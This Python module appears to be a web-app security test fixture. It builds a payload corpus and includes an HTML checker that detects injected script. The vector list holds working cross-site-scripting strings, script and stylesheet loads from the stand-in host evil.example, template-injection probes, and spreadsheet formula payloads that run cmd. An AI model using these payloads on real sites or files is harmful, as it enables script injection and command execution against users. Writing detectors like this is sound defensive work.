"""A corpus of cross-site-scripting and injection payloads (classic vectors × wrappers), and an HTML checker that
finds any element, attribute or URL a payload could have injected into a page."""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product

VECTORS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('xss')>",
    "<IMG SRC=\"javascript:alert('xss');\">",
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    "<body onload=alert('xss')>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<a href=\"javascript:alert('xss')\">点我</a>",
    "<a href=\"  JaVaScRiPt:alert('xss')\">点我</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "\"><script>alert('xss')</script>",
    "'><img src=x onerror=alert('xss')>",
    "\" onmouseover=\"alert('xss')",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert('xss')</script>",
    "</title><script>alert('xss')</script>",
    "<input autofocus onfocus=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "<object data=\"javascript:alert('xss')\"></object>",
    "<embed src=\"javascript:alert('xss')\">",
    "<form action=\"javascript:alert('xss')\"><button>提交</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(javascript:alert('xss'))}</style>",
    "<div style=\"width:expression(alert('xss'))\">x</div>",
    "{{ 1337|add:1 }}",
    "{% load static %}{% debug %}",
    "{{ request.META }}",
    "${7*7}<%= 7*7 %>",
    "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "%3Cscript%3Ealert('xss')%3C/script%3E",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    "<!--<script>alert('xss')//-->",
    "<![CDATA[<script>alert('xss')</script>]]>",
    '=HYPERLINK("http://evil.example","点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e<script>alert('xss')</script>",
]
WRAPPERS = [
    "{}",
    "学校乱收费{}",
    "{}请尽快处理",
    "反映：{}，补课费每月800元",
    "{}{}",
    "<b>{}</b>",
    "“{}”",
    "\n{}\n",
    "　{}　",
    "{} 张三 13812345678",
    "（{}）",
    "{}😀",
    "实验小学{}食堂",
]


def payloads() -> list[str]:
    """Every vector in every wrapper: 42 × 13 = 546, each distinct."""
    out = []
    for wrapper, vector in product(WRAPPERS, VECTORS):
        out.append(wrapper.replace("{}", vector))
    return list(dict.fromkeys(out))


FORMULA_STARTS = ("=", "+", "-", "@")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
NEVER_FROM_TEXT = {"iframe", "object", "embed", "base", "math", "mglyph", "frameset"}


class Injected(HTMLParser):
    """Collects what no page of the app makes itself but a payload would: inline or foreign scripts, event-handler
    attributes, javascript: URLs, and elements the app never uses."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag == "script":
            src = attributes.get("src") or ""
            if not src.startswith("/static/"):
                self.found.append(f"<script src={src!r}>")
        if tag in NEVER_FROM_TEXT:
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attributes and "refresh" in (attributes["http-equiv"] or "").lower():
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and value and value.strip().lower().replace("\x00", "").startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and ("expression(" in value or "javascript:" in value):
                self.found.append(f"<{tag} style={value!r}>")

    def handle_data(self, data: str) -> None:
        if "1338" in data:  # {{ 1337|add:1 }} rendered as a template
            self.found.append("template evaluated: 1338")


def injected(html: str) -> list[str]:
    parser = Injected()
    parser.feed(html)
    parser.close()
    return parser.found
